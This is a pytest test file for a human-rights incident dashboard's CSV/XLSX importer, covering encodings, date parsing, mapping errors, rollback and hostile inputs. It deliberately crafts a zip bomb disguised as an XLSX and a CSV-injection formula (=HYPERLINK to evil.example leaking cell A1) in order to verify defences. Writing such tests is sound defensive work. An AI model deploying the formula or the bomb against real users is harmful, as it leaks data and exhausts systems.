"""Broken, hostile and interrupted imports: clear messages, and the database as it was.

Every file here is made by the test in tmp_path. A fault must end in a report
or an ImportFileError/MappingError with a sentence that names the problem,
never a traceback, and a refused import must leave every table unchanged.
"""
from __future__ import annotations

import os
import shutil
import signal
import struct
import subprocess
import sys
import textwrap
import time
import zipfile
from pathlib import Path

import duckdb
import openpyxl
import pandas as pd
import pytest

from dashboard import db
from dashboard.ingest import importer
from dashboard.ingest.importer import import_file, validate
from dashboard.ingest.mapping import MappingError, load_mapping, parse_mapping_text
from dashboard.ingest.reader import ImportFileError, read_csv_bytes, read_table

ROOT = Path(__file__).resolve().parents[1]
TABLES = ("incidents", "acts", "defenders", "defender_sectors", "actors", "act_perpetrators",
          "sources", "incident_sources", "imports", "act_facts")

MAPPING = """
name = "faults"
required = ["date", "country", "victim_name"]

[source]
publisher = "Test monitor"
title = "Fault cases"

[defaults]
sector = "human_rights_general"

[key]
columns = ["Ref"]

[columns]
date = "Fecha"
country = "País"
place = "Ciudad"
victim_name = "Nombre"
violation = "Hecho"
actor_type = "Responsable"
summary = "Notas"

[split]
actor_type = ", "

[values.violation]
"Amenaza" = "threats"
"Asesinato" = "killing_targeted"

[values.actor_type]
"Policía" = "police"
"Desconocido" = "unknown_actor"
"""
HEADER = ["Ref", "Fecha", "País", "Ciudad", "Nombre", "Hecho", "Responsable", "Notas"]
GOOD_ROWS = [
    ["A-1", "2023-03-12", "Honduras", "La Ceiba", "Ana Pérez", "Amenaza", "Policía", ""],
    ["A-2", "marzo 2023", "Guatemala", "Quetzaltenango", "Luis Gómez Núñez", "Asesinato", "Desconocido", ""],
    ["A-3", "May 22 or 23, 2015", "Colombia", "Bogotá", "María José Ibáñez", "Amenaza", "Policía, Desconocido", ""],
]


@pytest.fixture(scope="module")
def template_db(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return db.build(tmp_path_factory.mktemp("faults_template") / "x.duckdb")


@pytest.fixture()
def fresh_db(template_db: Path, tmp_path: Path) -> Path:
    path = tmp_path / "x.duckdb"
    shutil.copy(template_db, path)
    return path


@pytest.fixture()
def mapping_path(tmp_path: Path) -> Path:
    path = tmp_path / "faults.toml"
    path.write_text(MAPPING, encoding="utf-8")
    return path


def write_csv(path: Path, rows: list[list[str]], encoding: str = "utf-8", delimiter: str = ",",
              header: list[str] | None = None) -> Path:
    def cell(value: str) -> str:
        if any(ch in value for ch in (delimiter, '"', "\n", "\r")):
            return '"' + value.replace('"', '""') + '"'
        return value
    lines = [delimiter.join(cell(v) for v in row) for row in [header or HEADER, *rows]]
    path.write_bytes(("\r\n".join(lines) + "\r\n").encode(encoding))
    return path


def counts(path: Path) -> dict[str, int]:
    con = duckdb.connect(str(path), read_only=True)
    try:
        return {t: con.execute(f"select count(*) from {t}").fetchall()[0][0] for t in TABLES}
    finally:
        con.close()


def query(path: Path, sql: str) -> pd.DataFrame:
    con = duckdb.connect(str(path), read_only=True)
    try:
        return con.execute(sql).df()
    finally:
        con.close()


def imported_names(path: Path) -> list[str]:
    return sorted(query(path, "select d.name from defenders as d join acts as a on a.victim_defender_id = d.defender_id "
                              "join incidents as i using (incident_id) where i.import_id is not null "
                              "group by d.name")["name"])


def report_for(tmp_path: Path, fresh_db: Path, mapping_path: Path, rows: list[list[str]], **kw) -> importer.ValidationReport:
    data = write_csv(tmp_path / "cases.csv", rows, **kw)
    frame = read_table(data)
    con = duckdb.connect(str(fresh_db), read_only=True)
    try:
        return validate(frame, load_mapping(mapping_path), con, data.name)
    finally:
        con.close()


# --- encodings and delimiters ---------------------------------------------------------------

@pytest.mark.parametrize("encoding, delimiter", [
    ("utf-16", ","), ("utf-16-le", ";"), ("latin-1", ";"), ("cp1252", "\t"), ("utf-8-sig", "|"), ("utf-8", ","),
])
def test_accented_names_survive_any_common_encoding(
    fresh_db: Path, tmp_path: Path, mapping_path: Path, encoding: str, delimiter: str,
) -> None:
    data = write_csv(tmp_path / "cases.csv", GOOD_ROWS, encoding=encoding, delimiter=delimiter)
    result = import_file(data, mapping_path, fresh_db)
    assert result.report.ok, result.report.format()
    assert result.incidents_added == 3
    assert imported_names(fresh_db) == ["Ana Pérez", "Luis Gómez Núñez", "María José Ibáñez"]
    places = set(query(fresh_db, "select place from incidents where import_id is not null")["place"])
    assert places == {"La Ceiba", "Quetzaltenango", "Bogotá"}


def test_cyrillic_code_pages_are_detected(tmp_path: Path) -> None:
    text = "Имя;Город\nЖанар Секербаева;Шымкент\nГульзада Сержан;Алматы\n"
    for encoding in ("cp1251", "koi8-r", "utf-16"):
        frame = read_csv_bytes(text.encode(encoding), name=f"ru-{encoding}.csv")
        assert list(frame.columns) == ["Имя", "Город"], encoding
        assert frame["Имя"].tolist() == ["Жанар Секербаева", "Гульзада Сержан"], encoding


def test_quoted_fields_keep_embedded_newlines_and_row_numbers(tmp_path: Path) -> None:
    data = b'a,b\n"line one\nline two",x\n,\n"3",y\n'
    frame = read_csv_bytes(data)
    assert frame["a"].tolist() == ["line one\nline two", "3"]
    assert frame.index.tolist() == [2, 4]  # the blank record (row 3) is left out but keeps its number


def test_explicit_wrong_encoding_is_a_clear_error(tmp_path: Path, fresh_db: Path) -> None:
    mapping = tmp_path / "utf8.toml"
    mapping.write_text(MAPPING.replace('[source]', '[file]\nencoding = "utf-8"\n\n[source]'), encoding="utf-8")
    data = write_csv(tmp_path / "cases.csv", GOOD_ROWS, encoding="latin-1")
    with pytest.raises(ImportFileError, match=r"cannot be decoded as utf-8.*\[file\]"):
        import_file(data, mapping, fresh_db)


# --- validation errors, each with row, column and value ----------------------------------------

def test_missing_mapped_column_stops_the_import(fresh_db: Path, tmp_path: Path, mapping_path: Path) -> None:
    header = [h for h in HEADER if h != "Responsable"]
    rows = [[v for h, v in zip(HEADER, row) if h != "Responsable"] for row in GOOD_ROWS]
    data = write_csv(tmp_path / "cases.csv", rows, header=header)
    before = counts(fresh_db)
    result = import_file(data, mapping_path, fresh_db, skip_invalid=True)
    assert not result.written and result.report.has_file_errors
    (problem,) = result.report.errors
    assert (problem.row, problem.column, problem.kind) == (None, "Responsable", "missing_column")
    assert "not in the file" in problem.message and "Fecha" in problem.message
    assert counts(fresh_db) == before
    assert "Nothing written" in result.summary()


def test_bad_dates_are_reported_with_row_column_and_value(fresh_db: Path, tmp_path: Path, mapping_path: Path) -> None:
    rows = [list(r) for r in GOOD_ROWS]
    rows[0][1] = "31 February 2021"
    rows[2][1] = "sometime soon"
    report = report_for(tmp_path, fresh_db, mapping_path, rows)
    errors = [(p.row, p.column, p.value, p.kind) for p in report.errors]
    assert errors == [(2, "Fecha", "31 February 2021", "bad_date"), (4, "Fecha", "sometime soon", "bad_date")]
    assert all("cannot parse date" in p.message for p in report.errors)
    assert report.rows_valid == 1


def test_dates_with_their_precision(fresh_db: Path, tmp_path: Path, mapping_path: Path) -> None:
    dates = ["October  2, 2016", "August 2015", "May 22 or 23, 2015", "October 2015 - June 2016", "Date unknown"]
    rows = [[f"D-{i}", d, "Iraq", "", f"Person {i}", "Asesinato", "Desconocido", ""] for i, d in enumerate(dates)]
    result = import_file(write_csv(tmp_path / "dates.csv", rows), mapping_path, fresh_db)
    assert result.report.ok, result.report.format()
    got = query(fresh_db, "select source_key, start_date, end_date, date_precision from incidents "
                          "where import_id is not null order by source_key")
    assert [(str(s)[:10], str(e)[:10], p) for s, e, p in zip(got["start_date"], got["end_date"], got["date_precision"])] == [
        ("2016-10-02", "2016-10-02", "day"),
        ("2015-08-01", "2015-08-31", "month"),
        ("2015-05-22", "2015-05-23", "day"),
        ("2015-10-01", "2016-06-30", "month"),
        ("NaT", "NaT", "unknown"),
    ]


def test_unknown_countries_and_legacy_names(fresh_db: Path, tmp_path: Path, mapping_path: Path) -> None:
    rows = [list(r) for r in GOOD_ROWS]
    rows[0][2] = "Atlantis"
    rows[1][2] = "Yugoslavia"
    rows[2][2] = "USA"
    report = report_for(tmp_path, fresh_db, mapping_path, rows)
    (problem,) = report.errors
    assert (problem.row, problem.column, problem.value, problem.kind) == (2, "País", "Atlantis", "unknown_country")
    assert "add it under [countries]" in problem.message
    mapping = tmp_path / "aliases.toml"
    mapping.write_text(MAPPING + '\n[countries]\n"Atlantis" = "GRC"\n', encoding="utf-8")
    result = import_file(tmp_path / "cases.csv", mapping, fresh_db)
    assert result.report.ok
    codes = sorted(query(fresh_db, "select country_code from incidents where import_id is not null")["country_code"])
    assert codes == ["GRC", "SRB", "USA"]


def test_unmapped_values_are_errors_never_dropped(fresh_db: Path, tmp_path: Path, mapping_path: Path) -> None:
    rows = [list(r) for r in GOOD_ROWS]
    rows[0][5] = "Hostigamiento"
    rows[2][6] = "Policía, Ejército"
    report = report_for(tmp_path, fresh_db, mapping_path, rows)
    got = [(p.row, p.column, p.value, p.kind) for p in report.errors]
    assert got == [(2, "Hecho", "Hostigamiento", "unmapped_value"), (4, "Responsable", "Ejército", "unmapped_value")]
    assert "[values.violation]" in report.errors[0].message
    assert "[values.actor_type]" in report.errors[1].message


def test_missing_required_and_duplicate_keys(fresh_db: Path, tmp_path: Path, mapping_path: Path) -> None:
    rows = [list(r) for r in GOOD_ROWS] + [list(GOOD_ROWS[0])]
    rows[1][4] = "   "
    report = report_for(tmp_path, fresh_db, mapping_path, rows)
    got = [(p.row, p.column, p.kind) for p in report.errors]
    assert got == [(3, "Nombre", "missing_required"), (5, "Ref", "duplicate_key")]
    assert "as row 2" in report.errors[1].message
    assert report.error_rows == {3, 5}
    text = report.format()
    assert "row 3" in text and "row 5" in text and "duplicate key" in text


def test_formula_cells_are_kept_as_text_and_warned(fresh_db: Path, tmp_path: Path, mapping_path: Path) -> None:
    rows = [list(r) for r in GOOD_ROWS]
    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
    rows[0][7] = formula
    rows[1][7] = "-12"  # a negative number is not a formula
    rows[2][7] = "@SUM(1+1)"
    result = import_file(write_csv(tmp_path / "cases.csv", rows), mapping_path, fresh_db)
    assert result.written and not result.report.errors
    warnings = [(p.row, p.column, p.value, p.kind) for p in result.report.warnings]
    assert warnings == [(2, "Notas", formula, "formula"), (4, "Notas", "@SUM(1+1)", "formula")]
    summaries = set(query(fresh_db, "select summary from incidents where import_id is not null")["summary"])
    assert formula in summaries  # stored as data, exactly; exports neutralise it
    from dashboard.export import neutralise
    assert neutralise(formula) == "'" + formula


def test_xlsx_with_title_rows_a_named_sheet_and_a_formula(fresh_db: Path, tmp_path: Path) -> None:
    wb = openpyxl.Workbook()
    wb.active.title = "Notes"
    ws = wb.create_sheet("Cases")
    ws.append(["Cases reported to the monitor"])
    ws.append([])
    ws.append(HEADER)
    for row in GOOD_ROWS:
        ws.append(row)
    ws["H4"] = '=HYPERLINK("http://example.org","link")'
    path = tmp_path / "cases.xlsx"
    wb.save(path)
    mapping = tmp_path / "xlsx.toml"
    mapping.write_text(MAPPING.replace("[source]", '[file]\nsheet = "Cases"\nheader_row = 3\n\n[source]'), encoding="utf-8")
    result = import_file(path, mapping, fresh_db)
    assert result.incidents_added == 3 and result.report.ok
    assert [(p.row, p.kind) for p in result.report.warnings] == [(4, "formula")]
    assert imported_names(fresh_db) == ["Ana Pérez", "Luis Gómez Núñez", "María José Ibáñez"]


# --- hostile files ------------------------------------------------------------------------------

def test_a_50_mb_field_is_refused_quickly(tmp_path: Path, fresh_db: Path, mapping_path: Path) -> None:
    path = tmp_path / "huge.csv"
    with path.open("wb") as fh:
        fh.write(b"Ref,Fecha,Notas\r\nA-1,2023-01-01,\"")
        fh.write(b"x" * (50 * 1024 * 1024))
        fh.write(b"\"\r\n")
    before = counts(fresh_db)
    start = time.perf_counter()
    with pytest.raises(ImportFileError, match="larger than 10 MB"):
        import_file(path, mapping_path, fresh_db)
    assert time.perf_counter() - start < 15
    assert counts(fresh_db) == before


def test_a_zip_bomb_disguised_as_xlsx_is_refused_unopened(tmp_path: Path) -> None:
    path = tmp_path / "bomb.xlsx"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("[Content_Types].xml", "<Types/>")
        zf.writestr("xl/workbook.xml", "<workbook/>")
        zf.writestr("xl/worksheets/sheet1.xml", b"\0" * 1024 * 1024)
    data = bytearray(path.read_bytes())
    at = data.find(b"PK\x01\x02")
    while at != -1:  # every central directory entry now claims almost 4 GB unpacked
        struct.pack_into("<I", data, at + 24, 0xFFFFFFF0)
        at = data.find(b"PK\x01\x02", at + 4)
    path.write_bytes(bytes(data))
    start = time.perf_counter()
    with pytest.raises(ImportFileError, match="zip bomb"):
        read_table(path)
    assert time.perf_counter() - start < 1


@pytest.mark.parametrize("content, message", [
    (bytes(range(256)) * 40, "binary file"),
    (b"\x89PNG\r\n\x1a\n" + bytes(200), "PNG image"),
    (b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj", "PDF document"),
    (b"", "is empty"),
    (b"   \r\n\r\n", "is empty"),
    (b"Ref,Fecha\r\n", "no data rows"),
])
def test_files_that_are_not_tables(tmp_path: Path, content: bytes, message: str) -> None:
    path = tmp_path / "cases.csv"
    path.write_bytes(content)
    with pytest.raises(ImportFileError, match=message):
        read_table(path)


def test_too_many_columns_and_bad_xlsx(tmp_path: Path) -> None:
    wide = tmp_path / "wide.csv"
    wide.write_text(",".join(f"c{i}" for i in range(2500)) + "\n" + ",".join("1" * 2500) + "\n", encoding="utf-8")
    with pytest.raises(ImportFileError, match="at most 2000"):
        read_table(wide)
    fake = tmp_path / "fake.xlsx"
    fake.write_text("Ref,Fecha\nA,2020\n", encoding="utf-8")
    with pytest.raises(ImportFileError, match="not a valid XLSX"):
        read_table(fake)
    not_excel = tmp_path / "other.xlsx"
    with zipfile.ZipFile(not_excel, "w") as zf:
        zf.writestr("readme.txt", "hello")
    with pytest.raises(ImportFileError, match="not an Excel workbook"):
        read_table(not_excel)


# --- what is written, and when ---------------------------------------------------------------------

def test_default_mode_writes_nothing_when_there_are_errors(fresh_db: Path, tmp_path: Path, mapping_path: Path) -> None:
    rows = [list(r) for r in GOOD_ROWS]
    rows[1][2] = "Narnia"
    before = counts(fresh_db)
    result = import_file(write_csv(tmp_path / "cases.csv", rows), mapping_path, fresh_db)
    assert not result.written and result.import_id is None and result.rejects_path is None
    assert counts(fresh_db) == before
    assert not (tmp_path / "cases.rejects.csv").exists()
    assert result.incidents_added == 2  # what --skip-invalid would add, for the report


def test_skip_invalid_writes_valid_rows_and_the_rejects_csv(fresh_db: Path, tmp_path: Path, mapping_path: Path) -> None:
    rows = [list(r) for r in GOOD_ROWS]
    rows[1][2] = "Narnia"
    rows[2][1] = "=1+1"
    before = counts(fresh_db)
    result = import_file(write_csv(tmp_path / "cases.csv", rows), mapping_path, fresh_db, skip_invalid=True)
    assert result.written and (result.incidents_added, result.rows_rejected) == (1, 2)
    after = counts(fresh_db)
    assert after["incidents"] == before["incidents"] + 1 and after["imports"] == before["imports"] + 1
    rejects_path = tmp_path / "cases.rejects.csv"
    assert result.rejects_path == rejects_path
    raw_bytes = rejects_path.read_bytes()
    assert raw_bytes.startswith(b"\xef\xbb\xbf")
    rejects = pd.read_csv(rejects_path, dtype=str, keep_default_na=False, encoding="utf-8-sig")
    assert list(rejects.columns) == ["row", "column", "value", "reason"]
    assert rejects[["row", "column", "value"]].values.tolist() == [["3", "País", "Narnia"], ["4", "Fecha", "'=1+1"]]
    assert rejects["reason"].str.len().min() > 10
    log = query(fresh_db, "select file_name, rows_read, incidents_added, rows_rejected from imports")
    assert log.values.tolist() == [["cases.csv", 3, 1, 2]]


def test_dry_run_writes_nothing_and_says_what_would_happen(fresh_db: Path, tmp_path: Path, mapping_path: Path) -> None:
    before = counts(fresh_db)
    result = import_file(write_csv(tmp_path / "cases.csv", GOOD_ROWS), mapping_path, fresh_db, dry_run=True)
    assert (result.dry_run, result.written, result.incidents_added) == (True, False, 3)
    assert counts(fresh_db) == before


def test_a_failure_inside_the_transaction_leaves_nothing(
    fresh_db: Path, tmp_path: Path, mapping_path: Path, monkeypatch: pytest.MonkeyPatch,
) -> None:
    before = counts(fresh_db)

    def broken_refresh(con: duckdb.DuckDBPyConnection) -> None:
        raise RuntimeError("power cut during the act_facts refresh")

    monkeypatch.setattr(importer.db, "refresh_facts", broken_refresh)
    with pytest.raises(RuntimeError, match="power cut"):
        import_file(write_csv(tmp_path / "cases.csv", GOOD_ROWS), mapping_path, fresh_db)
    assert counts(fresh_db) == before


def test_missing_database_is_a_clear_error(tmp_path: Path, mapping_path: Path) -> None:
    with pytest.raises(db.DatabaseError, match="hrd init"):
        import_file(write_csv(tmp_path / "cases.csv", GOOD_ROWS), mapping_path, tmp_path / "none.duckdb")
    assert not (tmp_path / "none.duckdb").exists()


# --- mapping files ------------------------------------------------------------------------------------

@pytest.mark.parametrize("change, message", [
    (("[columns]", "[colums]"), r"Unknown key 'colums'.*Did you mean 'columns'"),
    (('date = "Fecha"', 'dates = "Fecha"'), r"Unknown field 'dates'.*Did you mean 'date'"),
    (('publisher = "Test monitor"', 'publisher = "Test monitor"\nurl_colum = "Link"'), r"Unknown key 'url_colum'.*\[source\]"),
    (('name = "faults"', 'name = "Faults Mapping"'), "name"),
    (('columns = ["Ref"]', "columns = []"), r"\[key\] columns"),
    (('[source]\npublisher = "Test monitor"\ntitle = "Fault cases"', ""), r"\[source\]"),
    (('"Amenaza" = "threats"', '"Amenaza" = 3'), "Amenaza"),
    (("[split]", "[split]\nplace = \", \""), "can be split"),
    (('name = "faults"', 'name = "faults"\nname = "again"'), "not valid TOML"),
])
def test_mapping_mistakes_are_errors_with_a_clear_message(change: tuple[str, str], message: str) -> None:
    text = MAPPING.replace(*change)
    assert text != MAPPING
    with pytest.raises(MappingError, match=message):
        parse_mapping_text(text)


def test_mapping_codes_missing_from_the_vocabularies_stop_the_import(fresh_db: Path, tmp_path: Path) -> None:
    mapping = tmp_path / "badcode.toml"
    mapping.write_text(MAPPING.replace('"Amenaza" = "threats"', '"Amenaza" = "threatz"'), encoding="utf-8")
    before = counts(fresh_db)
    result = import_file(write_csv(tmp_path / "cases.csv", GOOD_ROWS), mapping, fresh_db, skip_invalid=True)
    assert not result.written and result.report.has_file_errors
    assert "'threatz' is not a code in violation_types" in result.report.errors[0].message
    assert counts(fresh_db) == before


def test_skip_rules_leave_rows_out_with_their_reason(fresh_db: Path, tmp_path: Path) -> None:
    mapping = tmp_path / "skip.toml"
    mapping.write_text(MAPPING + '\n[[skip]]\ncolumn = "Ciudad"\nvalues = ["bogotá"]\nreason = "test rows"\n',
                       encoding="utf-8")
    result = import_file(write_csv(tmp_path / "cases.csv", GOOD_ROWS), mapping, fresh_db)
    assert (result.incidents_added, result.report.rows_skipped) == (2, 1)
    notes = [(p.row, p.message) for p in result.report.problems if p.kind == "skipped"]
    assert notes == [(4, "skipped: test rows")]


# --- killed mid-import ----------------------------------------------------------------------------------

KILL_SCRIPT = textwrap.dedent("""
    import sys
    from dashboard.ingest.importer import import_file

    def progress(stage, done, total):
        print(stage, done, total, flush=True)

    import_file(sys.argv[1], sys.argv[2], sys.argv[3], progress=progress)
    print("committed", flush=True)
""")

SYNTHETIC_MAPPING = """
name = "bulk"
[source]
publisher = "Test generator"
title = "Bulk rows"
[defaults]
violation = "threats"
[key]
columns = ["id"]
[columns]
date = "date"
country = "country"
victim_name = "name"
actor_type = "perpetrator"
[values.actor_type]
police = "police"
unknown = "unknown_actor"
"""


def write_bulk_csv(path: Path, rows: int) -> None:
    """A large, valid file, written fast: few distinct dates and countries."""
    countries = ["Colombia", "Mexico", "Brazil", "Philippines", "Kazakhstan", "Turkey"]
    with path.open("w", encoding="utf-8", newline="") as fh:
        fh.write("id,date,country,name,perpetrator\n")
        for i in range(rows):
            fh.write(f"B{i},20{10 + i % 15}-0{1 + i % 9}-1{i % 10},{countries[i % 6]},Person {i},"
                     f"{'police' if i % 3 else 'unknown'}\n")


@pytest.mark.slow
@pytest.mark.parametrize("stage", ["writing", "refreshing"])
def test_sigkill_mid_import_leaves_the_database_unchanged_and_readable(
    fresh_db: Path, tmp_path: Path, stage: str,
) -> None:
    """Killed while rows are being inserted, or while act_facts is rebuilt just before the commit."""
    data, mapping = tmp_path / "bulk.csv", tmp_path / "bulk.toml"
    write_bulk_csv(data, 60_000)
    mapping.write_text(SYNTHETIC_MAPPING, encoding="utf-8")
    before = counts(fresh_db)
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    proc = subprocess.Popen(
        [sys.executable, "-c", KILL_SCRIPT, str(data), str(mapping), str(fresh_db)],
        stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, cwd=str(ROOT), env=env,
    )
    seen = []
    try:
        for line in proc.stdout:  # wait until the import is inside its transaction, at that stage
            seen.append(line.strip())
            if line.startswith(stage):
                os.kill(proc.pid, signal.SIGKILL)
                break
    finally:
        proc.wait(timeout=120)
    assert proc.returncode == -signal.SIGKILL, (seen, proc.stderr.read())
    assert seen[-1].startswith(stage) and "committed" not in seen
    # the database opens, reads and has exactly what it had before
    assert counts(fresh_db) == before
    con = db.connect(fresh_db)
    try:
        assert con.execute("select count(*) from act_facts").fetchall()[0][0] == before["act_facts"]
        assert con.execute("select count(*) from incidents where source_key like 'bulk:%'").fetchall()[0][0] == 0
    finally:
        con.close()
    # and it still takes an import
    after_mapping = tmp_path / "after.toml"
    after_mapping.write_text(MAPPING, encoding="utf-8")
    result = import_file(write_csv(tmp_path / "after.csv", GOOD_ROWS), after_mapping, fresh_db)
    assert result.written and result.incidents_added == 3


def test_ambiguous_numeric_dates_are_errors_until_the_mapping_says_the_order(fresh_db: Path, tmp_path: Path) -> None:
    """03/04/2023 is 3 April in most of the world and 4 March in the US: the import never guesses."""
    rows = [["S-1", "03/04/2023", "Honduras", "La Ceiba", "Ana Pérez", "Amenaza", "Policía", ""],
            ["S-2", "25/04/2023", "Honduras", "La Ceiba", "Luis Gómez", "Amenaza", "Policía", ""]]
    data = write_csv(tmp_path / "slashes.csv", rows)
    mapping = tmp_path / "slashes.toml"
    mapping.write_text(MAPPING, encoding="utf-8")
    refused = import_file(data, mapping, fresh_db)
    assert not refused.written
    assert [(p.value, "date_order" in p.message) for p in refused.report.errors] == [("03/04/2023", True)]
    mapping.write_text(MAPPING.replace("[source]", '[file]\ndate_order = "DMY"\n\n[source]', 1), encoding="utf-8")
    done = import_file(data, mapping, fresh_db)
    assert done.written and done.incidents_added == 2
    con = duckdb.connect(str(fresh_db), read_only=True)
    try:
        days = con.execute("select start_date from incidents where year(start_date) = 2023 order by start_date").fetchall()
    finally:
        con.close()
    assert [d[0].isoformat() for d in days] == ["2023-04-03", "2023-04-25"]  # 03/04 read as 3 April
